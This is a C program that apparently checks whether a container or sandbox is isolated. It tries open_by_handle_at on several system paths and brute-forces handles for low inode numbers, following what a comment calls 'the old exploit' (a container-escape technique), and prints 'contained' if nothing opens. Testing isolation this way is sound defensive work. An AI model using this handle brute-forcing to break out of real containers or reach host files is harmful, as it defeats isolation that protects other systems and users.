#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    static const char *const places[] = {"/", "/etc/hosts", "/etc/resolv.conf", "/job", "/tmp", "/dev/shm", "/proc"};
    struct file_handle *handle = calloc(1, sizeof *handle + 128);
    int reached = 0;
    for (int n = 0; n < 7; n++) {
        int mount_id, place = open(places[n], O_RDONLY);
        handle->handle_bytes = 128;
        if (name_to_handle_at(AT_FDCWD, places[n], handle, &mount_id, 0) == 0 && open_by_handle_at(place, handle, O_RDONLY) >= 0) {
            reached++;
            printf("%s by the handle it gave\n", places[n]);
        }
        // The root of most file systems is inode 2: the old exploit starts there.
        for (unsigned long long inode = 1; inode < 64; inode++) {
            handle->handle_bytes = 8;
            handle->handle_type = 1;
            memcpy(handle->f_handle, &inode, 8);
            if (open_by_handle_at(place, handle, O_RDONLY) < 0) continue;
            reached++;
            printf("%s by the handle of inode %llu\n", places[n], inode);
        }
    }
    if (reached == 0) puts("contained");
    return 0;
}
